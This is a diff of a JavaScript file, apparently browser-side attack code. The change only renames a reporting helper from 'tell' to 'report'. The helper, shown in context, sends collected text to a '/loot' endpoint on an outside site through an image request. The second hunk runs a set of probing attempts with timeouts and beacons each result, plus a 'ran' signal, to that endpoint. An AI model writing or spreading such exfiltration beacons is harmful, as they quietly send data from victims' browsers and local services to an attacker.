@@ -5,7 +5,7 @@
   const own = `${desk}/_newsgen/`;
   const near = new URL(desk).port;
   const save = "SAVE";
-  const tell = (words) => {
+  const report = (words) => {
     new Image().src = `${site}/loot?${encodeURIComponent(String(words).slice(0, 900))}`;
   };
   const read = (address, more) => fetch(address, more).then((answer) => answer.text());
@@ -112,12 +112,12 @@
   const late = () => new Promise((_, fail) => setTimeout(fail, 1500));
   const all = Object.entries(tries).map(async ([what, attempt]) => {
     try {
-      tell(`${what}: ${await Promise.race([attempt(), late()])}`);
+      report(`${what}: ${await Promise.race([attempt(), late()])}`);
     } catch {
-      tell(`${what}: nothing`);
+      report(`${what}: nothing`);
     }
   });
-  tell("ran");
+  report("ran");
   await Promise.all(all);
   document.documentElement.dataset.done = Object.keys(tries).length;
 })();
